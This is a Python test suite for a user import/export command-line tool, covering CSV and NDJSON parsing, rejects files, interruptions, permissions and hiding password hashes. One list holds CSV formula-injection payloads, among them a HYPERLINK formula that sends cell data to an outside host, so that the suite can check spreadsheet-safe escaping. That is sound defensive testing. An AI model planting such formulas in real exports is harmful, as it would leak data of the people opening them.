import asyncio
import csv
import errno
import gc
import os
import signal
import stat
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Sequence
from contextlib import nullcontext
from io import StringIO
from pathlib import Path
from typing import Final

import orjson
import pytest

from application.transfer.user_import import Outcome, Parsed, UserImport
from application.transfer.user_records import PlainRecord
from benchmarks.fill_storage import fill
from benchmarks.make_users import FIELDS, lines
from domain.errors import StorageUnavailable
from entrypoints.cli.csv_records import write_csv
from entrypoints.cli.source import LineReader
from tests.cli.commands import PROGRAM, CommandResult, environment, userport
from tests.servers.databases import Databases

ANN = b'{"email": "ann@example.com", "name": "Ann"}\n'
BOB = b'{"email": "bob@example.com", "name": "Bob"}\n'

HASHES: Final = (
    "$argon2id$v=19$m=19456,t=2,p=1$texMdoT1S/6bgUQstrsJMg$Ob4SJnoZKAMlp9ftpPaMDskyA7PfMRFYD0SzQ70Pu1I",
    "$2b$10$Cl7QT/4b69bGjuyln0M9xue.wdQs6X59CwdcHpLentXLmPhJNYeFi",
    "pbkdf2_sha256$600000$salty$FwgToftaPH9tsZsx+CRgLWJbp7d4tsiUJZQtH5IjW14=",
    "scrypt$16384$salty$8$1$kbQEafUjgDt0z3jwFbzfreEv88EQazPcQgwuD4BApHEgt9C7GwgHYdBP3Z9XcSE6Bk3dgAww43CVcJhP4d5I7A==",
)
"""Of one password, "purple kettle 42"."""


def summary(added: int = 0, there: int = 0, refused: int = 0) -> str:
    return f"{added} added, {there} already there, {refused} refused\n"


def rejects(file: Path) -> list[tuple[int, str]]:
    """Return the line and the code of each error in a file of rejects."""
    records = [orjson.loads(line) for line in file.read_bytes().splitlines()]
    return [(record["line"], error["code"]) for record in records for error in record["errors"]]


def imported(
    sqlite: str, tmp_path: Path, content: bytes, name: str = "users.csv"
) -> tuple[CommandResult, list[tuple[int, str]]]:
    file = tmp_path / name
    file.write_bytes(content)
    ended = userport("users", "import", file, "--storage", sqlite, "--rejects", tmp_path / "rejects.ndjson")
    return ended, rejects(tmp_path / "rejects.ndjson")


def names(url: str) -> list[str]:
    return [orjson.loads(line)["name"] for line in userport("users", "export", "--storage", url).output.splitlines()]


# End to end, on every storage


@pytest.mark.parametrize("ending", ["csv", "ndjson"])
def test_good_records_go_in_and_bad_ones_into_the_rejects(prepared: str, tmp_path: Path, ending: str) -> None:
    made = list(lines(1_100, bad=0.06, seed=7, as_csv=ending == "csv"))
    header = ",".join(FIELDS).encode() + b"\n" if ending == "csv" else b""
    source, found = tmp_path / f"users.{ending}", tmp_path / "rejects"
    source.write_bytes(header + b"".join(line for line, _ in made))
    expected, number = [], 1 + bool(header)
    for line, code in made:
        if code:
            expected.append((number, code))
        number += line.count(b"\n")

    command = ("users", "import", source, "--storage", prepared, "--rejects", found)
    first = userport(*command)
    assert (first.exit_code, first.text) == (3, summary(added=1_100 - len(expected), refused=len(expected)))
    assert set(expected) <= set(rejects(found))
    assert len(found.read_bytes().splitlines()) == len(expected) > 50

    second = userport(*command)
    assert (second.exit_code, second.text) == (3, summary(there=1_100 - len(expected), refused=len(expected)))


@pytest.mark.parametrize("ending", ["csv", "ndjson"])
def test_an_export_imported_elsewhere_exports_the_same_bytes(
    prepared: str, sqlite: str, tmp_path: Path, ending: str
) -> None:
    source = tmp_path / "users.ndjson"
    source.write_bytes(b"".join(line for line, _ in lines(1_050, bad=0, seed=3, as_csv=False)))
    first, second = tmp_path / f"first.{ending}", tmp_path / f"second.{ending}"
    assert userport("users", "import", source, "--storage", prepared).text == summary(added=1_050)
    assert userport("users", "export", first, "--storage", prepared).exit_code == 0
    assert userport("users", "import", first, "--storage", sqlite).text == summary(added=1_050)
    assert userport("users", "export", second, "--storage", sqlite).exit_code == 0
    assert first.read_bytes() == second.read_bytes()
    assert userport("users", "import", first, "--storage", prepared).text == summary(there=1_050)


@pytest.mark.slow
@pytest.mark.parametrize("ending", ["csv", "ndjson"])
def test_passwords_go_along_as_hashes_when_they_are_asked_for(
    prepared: str, sqlite: str, tmp_path: Path, ending: str
) -> None:
    rows = (f'u{number}@example.com,U,"{(*HASHES, "")[number % 5]}"\n'.encode() for number in range(1_100))
    source, plain = tmp_path / "users.csv", tmp_path / f"plain.{ending}"
    source.write_bytes(b"email,name,password_hash\n" + b"".join(rows))
    first, second = tmp_path / f"first.{ending}", tmp_path / f"second.{ending}"
    assert userport("users", "import", source, "--storage", prepared).text == summary(added=1_100)
    assert userport("users", "export", first, "--storage", prepared, "--with-password-hashes").exit_code == 0
    assert userport("users", "import", first, "--storage", sqlite).text == summary(added=1_100)
    assert userport("users", "export", second, "--storage", sqlite, "--with-password-hashes").exit_code == 0
    assert first.read_bytes() == second.read_bytes()
    assert [first.read_text().count(password_hash) for password_hash in HASHES] == [220] * 4
    assert stat.filemode(first.stat().st_mode) == "-rw-------"
    assert userport("users", "import", source, "--storage", sqlite).text == summary(there=1_100)

    assert userport("users", "export", plain, "--storage", prepared).exit_code == 0
    assert not any(word in plain.read_text() for word in ("password", *HASHES))


def test_a_storage_that_is_not_prepared_takes_nothing(databases: Databases, tmp_path: Path) -> None:
    (tmp_path / "a.ndjson").write_bytes(ANN)
    with databases.fresh("postgresql") as url:
        ended = userport("users", "import", tmp_path / "a.ndjson", "--storage", url)
    assert ended.exit_code == 1
    assert ended.errors.count("\n") == 1
    assert "userport storage prepare" in ended.errors


# Reading CSV


def test_csv_may_have_a_byte_order_mark_windows_line_ends_blank_lines_and_quoted_ones(
    sqlite: str, tmp_path: Path
) -> None:
    content = (
        b'\xef\xbb\xbfname,email,bio\r\nAnn,ann@example.com,"two\r\nlines, ""quoted"""\r\n\r\nBob,bob@example.com,'
    )
    ended, refused = imported(sqlite, tmp_path, content)
    assert (ended.exit_code, ended.text, refused) == (0, summary(added=2), [])
    ann = orjson.loads(userport("users", "export", "--storage", sqlite).output.splitlines()[0])
    assert ann["bio"] == 'two\r\nlines, "quoted"'


def test_a_record_over_several_lines_is_known_by_its_first(sqlite: str, tmp_path: Path) -> None:
    content = b'email,name,bio\nann@example.com,Ann,"a\nb\nc"\n\n,Bob,"d\ne"\nx,y,z\n'
    assert imported(sqlite, tmp_path, content)[1] == [(6, "required"), (8, "invalid_email")]


def test_a_bad_line_does_not_stop_the_ones_behind_it(sqlite: str, tmp_path: Path) -> None:
    content = (
        b"email,name\nann@example.com\nann@example.com,Ann,tea\nann@example.com,\xff\xfe\n"
        b'"ann"@example.com,Ann\nann@example.com,A\0nn\n' + b"x" * 300_000 + b"\nann@example.com,Ann\n"
    )
    ended, refused = imported(sqlite, tmp_path, content)
    assert refused == [
        (2, "wrong_cell_count"),
        (3, "wrong_cell_count"),
        (4, "not_utf8"),
        (5, "malformed_csv"),
        (6, "invalid_character"),
        (7, "line_too_long"),
    ]
    assert ended.text == summary(added=1, refused=6)


def test_a_quote_that_is_never_closed_does_not_take_in_the_whole_file(sqlite: str, tmp_path: Path) -> None:
    rows = [f"u{number}@example.com,User number {number}\n".encode() for number in range(5_000)]
    ended, refused = imported(sqlite, tmp_path, b'email,name\n"ann@example.com,Ann\n' + b"".join(rows))
    assert refused == [(2, "record_too_long")]
    assert ended.exit_code == 3
    assert len(names(sqlite)) > 1_000


def test_truth_is_read_as_spreadsheets_write_it(sqlite: str, tmp_path: Path) -> None:
    content = b"email,name,active,version\na@example.com,A,TRUE,2\nb@example.com,B,false,\nc@example.com,C,1,0x1\n"
    ended, refused = imported(sqlite, tmp_path, content)
    assert ended.text == summary(added=2, refused=1)
    assert refused == [(4, "wrong_type"), (4, "wrong_type")]


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "empty"),
        (b"email,name,nmae\nann@example.com,Ann,x\n", "nmae"),
        (b"email;name\nann@example.com;Ann\n", "email;name"),
        (b"email,name,password\nann@example.com,Ann,hunter22\n", "give a hash of it instead, as password_hash"),
        (b"name\nAnn\n", "no column email"),
        (b"email,email,name\na,b,c\n", "duplicate"),
        ("email,name\nann@example.com,Ann\n".encode("utf-16"), "UTF-8"),
        (b'"email,name\n', "header"),
        (b"ann@example.com,Ann\n", "unknown column"),
        (b"$2b$10$hunter22,ann@example.com,Ann\n", "unknown column; known are"),
    ],
)
def test_a_header_that_cannot_be_followed_refuses_the_file(
    sqlite: str, tmp_path: Path, content: bytes, said: str
) -> None:
    (tmp_path / "users.csv").write_bytes(content)
    ended = userport("users", "import", tmp_path / "users.csv", "--storage", sqlite)
    assert (ended.exit_code, ended.output, ended.errors.count("\n")) == (1, b"", 1)
    assert said in ended.errors
    assert "hunter22" not in ended.errors


# Reading NDJSON


def test_a_line_that_is_no_sound_object_is_refused_with_its_number(sqlite: str, tmp_path: Path) -> None:
    bad = [
        (b"{", "malformed_json"),
        (b'{"email": "n@example.com", "name": NaN}', "malformed_json"),
        (b'{"email": "n@example.com", "name": -Infinity}', "malformed_json"),
        (b"[" * 200_000, "malformed_json"),
        (b'{"version": ' + b"9" * 10_000 + b"}", "malformed_json"),
        (b'{"email": "n@example.com", "name": "N", "version": 99999999999999999999}', "out_of_range"),
        (b'{"email": "n@example.com", "name": "N", "version": 1e3}', "wrong_type"),
        (b'{"email": "n@example.com", "name": "N", "name": "M"}', "repeated_field"),
        (b'{"email": "n@example.com", "name": ["N"]}', "wrong_type"),
        (b'{"email": "n@example.com", "name": "\\ud800"}', "invalid_character"),
        (b'{"email": "n@example.com", "name": "N", "x": 1}', "unknown_field"),
        (b'{"email": "n@example.com", "name": "N", "password": "hunter22"}', "password_not_supported"),
        (b'{"email": "n@example.com", "name": "N", "password_hash": "hunter22"}', "unknown_password_hash"),
        (b'{"email": "n@example.com", "name": "N", "password_hash": ["hunter22"]}', "wrong_type"),
        (b'"text"', "wrong_type"),
        (b"\xff", "not_utf8"),
        (b'{"email": "' + b"x" * 300_000, "line_too_long"),
    ]
    content = b"\xef\xbb\xbf" + b"\n".join(line for line, _ in bad) + b"\n\n  \r\n" + ANN.strip()
    ended, refused = imported(sqlite, tmp_path, content, "users.ndjson")
    assert refused == [(number, code) for number, (_, code) in enumerate(bad, 1)]
    assert ended.text == summary(added=1, refused=len(bad))
    assert b"hunter22" not in (tmp_path / "rejects.ndjson").read_bytes()


def test_an_empty_ndjson_file_imports_no_users(sqlite: str, tmp_path: Path) -> None:
    ended, _ = imported(sqlite, tmp_path, b"", "users.ndjson")
    assert (ended.exit_code, ended.text) == (0, summary())


# Sources and messages


@pytest.mark.parametrize("content", [ANN, b"email,name\nann@example.com,Ann\n", b"\xef\xbb\xbf \n" + ANN])
def test_the_format_of_a_pipe_is_guessed_from_its_beginning(sqlite: str, content: bytes) -> None:
    assert userport("users", "import", "-", "--storage", sqlite, pipe=content).text == summary(added=1)


def test_a_format_that_is_named_counts_more_than_the_ending(sqlite: str, tmp_path: Path) -> None:
    (tmp_path / "users.csv").write_bytes(ANN)
    ended = userport("users", "import", tmp_path / "users.csv", "--format", "ndjson", "--storage", sqlite)
    assert ended.text == summary(added=1)


def test_without_a_file_for_them_the_first_rejects_are_shown(sqlite: str) -> None:
    ended = userport("users", "import", "-", "--storage", sqlite, pipe=b'{"name": "A"}\n' * 9)
    shown = ended.errors.splitlines()
    assert shown[0] == "line 1: email: is required"
    assert len(shown) == 6
    assert "--rejects" in shown[-1]


def test_a_dry_run_says_what_would_be_and_writes_nothing(sqlite: str) -> None:
    ended = userport("users", "import", "-", "--storage", sqlite, "--dry-run", pipe=ANN + BOB + ANN + b"{}\n")
    assert ended.exit_code == 3
    assert ended.text.endswith(summary(added=2, there=1, refused=1))
    assert names(sqlite) == []


def test_rejects_that_cannot_be_written_are_found_before_anything_else(sqlite: str, tmp_path: Path) -> None:
    (tmp_path / "users.ndjson").write_bytes(ANN)
    ended = userport("users", "import", tmp_path / "users.ndjson", "--storage", sqlite, "--rejects", tmp_path)
    assert (ended.exit_code, ended.errors.count("\n")) == (1, 1)
    userport("storage", "prepare", "--storage", sqlite)
    assert names(sqlite) == []


def test_rejects_never_overwrite_what_is_imported(sqlite: str, tmp_path: Path) -> None:
    file = tmp_path / "users.ndjson"
    file.write_bytes(ANN)
    assert userport("users", "import", file, "--storage", sqlite, "--rejects", file).exit_code == 2
    assert file.read_bytes() == ANN


@pytest.mark.parametrize("file", ["missing.csv", "."])
def test_an_unreadable_file_is_reported_in_one_line(sqlite: str, tmp_path: Path, file: str) -> None:
    ended = userport("users", "import", tmp_path / file, "--storage", sqlite)
    assert (ended.exit_code, ended.errors.count("\n")) == (1, 1)


# Writing


def test_an_export_is_complete_or_not_there(sqlite: str, tmp_path: Path) -> None:
    ended = userport("users", "export", tmp_path / "users.ndjson", "--storage", sqlite)
    assert ended.exit_code == 1  # the storage is not prepared
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("options", [(), ("--with-password-hashes",)])
def test_an_export_is_readable_by_its_owner_alone_even_if_it_replaces_a_file(
    sqlite: str, tmp_path: Path, options: tuple[str, ...]
) -> None:
    file, partial = tmp_path / "users.csv", tmp_path / "users.csv.part"
    for there in (file, partial):
        there.write_bytes(b"of another time")
        there.chmod(0o666)
    with partial.open("rb") as of_a_killed_run:
        userport("users", "import", "-", "--storage", sqlite, pipe=b"email,name\nann@example.com,Ann\n")
        assert userport("users", "export", file, "--storage", sqlite, *options).exit_code == 0
        assert of_a_killed_run.read() == b"of another time"
    assert stat.filemode(file.stat().st_mode) == "-rw-------"
    assert file.read_text().splitlines()[0].endswith("password_hash" if options else "updated_at")
    assert not partial.exists()


def test_rejects_are_readable_by_their_owner_alone_even_if_they_replace_a_file(sqlite: str, tmp_path: Path) -> None:
    file = tmp_path / "rejects.ndjson"
    for there in (False, True):
        if there:
            file.write_bytes(b"of another time")
            file.chmod(0o666)
        with file.open("rb") if there else nullcontext() as of_another_time:
            _, refused = imported(sqlite, tmp_path, b"email,name\nann,Ann\n")
            assert of_another_time is None or of_another_time.read() == b"of another time"
        assert refused == [(2, "invalid_email")]
        assert stat.filemode(file.stat().st_mode) == "-rw-------"


def test_an_export_and_rejects_go_into_a_device_as_it_is(sqlite: str) -> None:
    ended = userport(
        "users", "import", "-", "--storage", sqlite, "--rejects", "/dev/null", pipe=b"email,name\nann,Ann\n"
    )
    assert ended.exit_code == 3
    assert userport("users", "export", "/dev/null", "--storage", sqlite).exit_code == 0
    assert Path("/dev/null").is_char_device()


FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "＝1", "＋1", "－1", "＠a", '=HYPERLINK("https://example.org?"&A1)']


def test_a_spreadsheet_runs_nothing_of_a_safe_export(sqlite: str) -> None:
    plain = ["Ann", "a=1", "'quoted'", "1-2", "$1"]
    records = [{"email": f"={n}@example.com", "name": name, "bio": name} for n, name in enumerate([*FORMULAS, *plain])]
    users = b"\n".join(map(orjson.dumps, records))
    assert userport("users", "import", "-", "--storage", sqlite, pipe=users).text == summary(added=len(records))
    command = ("users", "export", "--storage", sqlite, "--format", "csv")
    rows = list(csv.DictReader(userport(*command, "--spreadsheet-safe").text.splitlines()))
    assert [row["name"] for row in rows] == [*(f"'{formula}" for formula in FORMULAS), *plain]
    assert [row["bio"] for row in rows] == [row["name"] for row in rows]
    assert [row["email"] for row in rows] == [f"'={n}@example.com" for n in range(len(records))]
    as_it_is = list(csv.DictReader(userport(*command).text.splitlines()))
    assert [row["name"] for row in as_it_is] == [*FORMULAS, *plain]


@pytest.mark.parametrize("text", ["\t=1", "\n=1", " \u00a0=1", "\r1"])
def test_a_formula_hides_behind_no_white_space(text: str) -> None:
    row: PlainRecord = dict.fromkeys(FIELDS, text)
    assert {cell[0] for cell in next(csv.reader(StringIO(write_csv([row], spreadsheet_safe=True).decode())))} == {"'"}


def test_only_csv_can_be_made_safe_for_spreadsheets(sqlite: str) -> None:
    ended = userport("users", "export", "--storage", sqlite, "--spreadsheet-safe")
    assert (ended.exit_code, len(ended.errors.splitlines())) == (2, 1)
    assert "--format csv" in ended.errors


@pytest.mark.slow
def test_an_export_into_a_closed_pipe_stops_quietly(sqlite: str) -> None:
    users = b"".join(line for line, _ in lines(3_000, bad=0, seed=1, as_csv=False))
    userport("users", "import", "-", "--storage", sqlite, pipe=users)
    command = (*PROGRAM, "users", "export", "--storage", sqlite)
    with subprocess.Popen(  # noqa: S603 - our own program
        command, env=environment(), stdout=subprocess.PIPE, stderr=subprocess.PIPE
    ) as process:
        assert process.stdout is not None
        assert process.stderr is not None
        process.stdout.readline()
        process.stdout.close()
        assert process.stderr.read() == b""


# Interruptions


@pytest.mark.slow
def test_an_interrupted_import_says_how_far_it_got_and_can_be_repeated(sqlite: str, tmp_path: Path) -> None:
    users = b"".join(line for line, _ in lines(1_000, bad=0, seed=1, as_csv=False))
    pipe = tmp_path / "pipe.ndjson"
    os.mkfifo(pipe)
    command = (*PROGRAM, "users", "import", str(pipe), "--storage", sqlite)
    with subprocess.Popen(  # noqa: S603 - our own program
        command, env=environment(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    ) as process:
        with pipe.open("wb") as writer:
            writer.write(users + ANN)
            writer.flush()
            while not names(sqlite):
                time.sleep(0.1)
            process.send_signal(signal.SIGINT)
            process.wait(timeout=60)  # before the end of the file, which would also end the import
        output, errors = process.communicate()
    assert (process.returncode, output) == (130, "")
    assert errors.strip().startswith("userport: interrupted - stopped after line")
    assert "run the same command again" in errors
    again = userport("users", "import", "-", "--storage", sqlite, pipe=users + ANN)
    assert again.exit_code == 0
    assert len(names(sqlite)) == 1_001


@pytest.mark.parametrize("ending", ["ndjson", pytest.param("csv", marks=pytest.mark.slow)])
def test_what_was_read_ahead_of_a_failure_is_not_counted(
    sqlite: str, tmp_path: Path, ending: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    made = b"".join(line for line, _ in lines(3_500, bad=0, seed=1, as_csv=ending == "csv"))
    header = b",".join(field.encode() for field in FIELDS) + b"\n" if ending == "csv" else b""
    source = tmp_path / f"users.{ending}"
    source.write_bytes(header + made)
    store, calls = UserImport.store, 0

    async def fail_at_last(self: UserImport, records: Sequence[Parsed]) -> Sequence[Outcome]:
        nonlocal calls
        calls += 1
        if calls == 3:
            raise StorageUnavailable
        return await store(self, records)

    with monkeypatch.context() as patch:
        patch.setattr(UserImport, "store", fail_at_last)
        failed = userport("users", "import", source, "--storage", sqlite)
    assert failed.exit_code == 1
    assert "with 2000 added, 0 already there, 0 refused; run the same command again" in failed.errors
    assert len(names(sqlite)) == 2_000
    assert userport("users", "import", source, "--storage", sqlite).text == summary(added=1_500, there=2_000)


def test_a_file_that_ends_badly_loses_nothing_of_what_came_before(
    sqlite: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = tmp_path / "users.ndjson"
    source.write_bytes(b"".join(line for line, _ in lines(2_500, bad=0, seed=1, as_csv=False)))
    read, reads = LineReader.read, 0

    def fail_at_last(self: LineReader) -> bytes:
        nonlocal reads
        reads += 1
        if reads > 2_100:
            raise OSError(errno.EIO, "Input/output error")
        return read(self)

    monkeypatch.setattr(LineReader, "read", fail_at_last)
    failed = userport("users", "import", source, "--storage", sqlite)
    assert failed.exit_code == 1
    assert "stopped after line 2000 with 2000 added" in failed.errors
    assert len(names(sqlite)) == 2_000


def test_an_import_leaves_the_interpreter_as_it_was(sqlite: str) -> None:
    before = sys.getswitchinterval()
    assert userport("users", "import", "-", "--storage", sqlite, pipe=ANN).exit_code == 0
    assert gc.isenabled()
    assert sys.getswitchinterval() == before


@pytest.mark.slow
def test_a_storage_lost_in_the_middle_is_reported_with_the_progress(databases: Databases, tmp_path: Path) -> None:
    users = b"".join(line for line, _ in lines(1_000, bad=0, seed=1, as_csv=False))
    pipe = tmp_path / "pipe.ndjson"
    os.mkfifo(pipe)
    with databases.own_server("postgresql") as server:
        assert userport("storage", "prepare", "--storage", server.url).exit_code == 0
        command = (*PROGRAM, "users", "import", str(pipe), "--storage", server.url)
        with subprocess.Popen(  # noqa: S603 - our own program
            command, env=environment(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
        ) as process:
            with pipe.open("wb") as writer:
                writer.write(users + ANN)
                writer.flush()
                while len(names(server.url)) < 1_000:
                    time.sleep(0.1)
                server.kill()
            output, errors = process.communicate(timeout=60)
    assert (process.returncode, output, errors.count("\n")) == (1, "", 1)
    assert "the storage cannot be reached" in errors
    assert "1000 added" in errors
    assert "run the same command again" in errors


def test_rejects_hold_what_is_known_of_a_record_and_no_field_that_may_be_secret(sqlite: str, tmp_path: Path) -> None:
    file, found = tmp_path / "users.ndjson", tmp_path / "rejects.ndjson"
    file.write_text('{"email": "ann", "name": "\\ud800", "passwd": "hunter22"}\nnonsense\n')
    userport("users", "import", file, "--storage", sqlite, "--rejects", found)
    first, second = (orjson.loads(line) for line in found.read_bytes().splitlines())
    assert first["record"] == {"email": "ann", "name": "?"}
    assert [error["field"] for error in first["errors"]] == ["passwd", "email", "name"]
    assert (second["line"], second["record"]) == (2, None)


def test_rejects_hide_the_hash_of_a_password(sqlite: str, tmp_path: Path) -> None:
    pbkdf2, scrypt = HASHES[2:]
    records = [
        {"email": "ann@example.com", "name": "Ann", "password_hash": pbkdf2},
        {"email": "ann@example.com", "name": "Ann", "password_hash": scrypt},
        {"email": "bob", "name": "Bob", "password_hash": pbkdf2},
        {"email": "eve", "name": "Eve", "password_hash": None},
    ]
    ended, refused = imported(sqlite, tmp_path, b"\n".join(map(orjson.dumps, records)), "users.ndjson")
    assert refused == [(2, "password_hash_differs"), (3, "invalid_email"), (4, "invalid_email")]
    message = (tmp_path / "rejects.ndjson").read_text()
    assert not any(password_hash in message + ended.errors for password_hash in HASHES)
    hidden = [orjson.loads(line)["record"].get("password_hash") for line in message.splitlines()]
    assert hidden == ["(hidden)", "(hidden)", None]


def test_without_a_file_for_rejects_nothing_of_a_hash_is_shown(sqlite: str) -> None:
    content = b'{"email": "ann@example.com", "name": "Ann", "password_hash": "hunter22"}'
    ended = userport("users", "import", "-", "--storage", sqlite, pipe=content)
    assert ended.errors.startswith("line 1: password_hash: must be a hash by Argon2, bcrypt, scrypt, or PBKDF2")
    assert "hunter22" not in ended.errors


def test_an_export_with_records_holds_everything_that_users_own_but_secrets(sqlite: str) -> None:
    asyncio.run(fill(sqlite, users=30, posts=50))
    plain = userport("users", "export", "--storage", sqlite).output
    ended = userport("users", "export", "--with-records", "--storage", sqlite)
    assert ended.exit_code == 0
    assert ended.output.startswith(plain)
    lines = [orjson.loads(line) for line in ended.output.removeprefix(plain).splitlines()]
    counts = Counter(line["type"] for line in lines)
    assert counts["posts"] == 50
    assert counts["credentials"] > 0
    assert counts["sessions"] > 0
    sessions = [line["record"] for line in lines if line["type"] == "sessions"]
    assert all(session["created_at"].endswith("Z") for session in sessions)
    for secret in ("password_hash", "token_digest", "salt", "argon2"):
        assert secret.encode() not in ended.output


def test_an_export_with_records_is_no_csv(sqlite: str) -> None:
    ended = userport("users", "export", "--with-records", "--format", "csv", "--storage", sqlite)
    assert (ended.exit_code, ended.output) == (2, b"")
    assert "--with-records is for NDJSON" in ended.errors
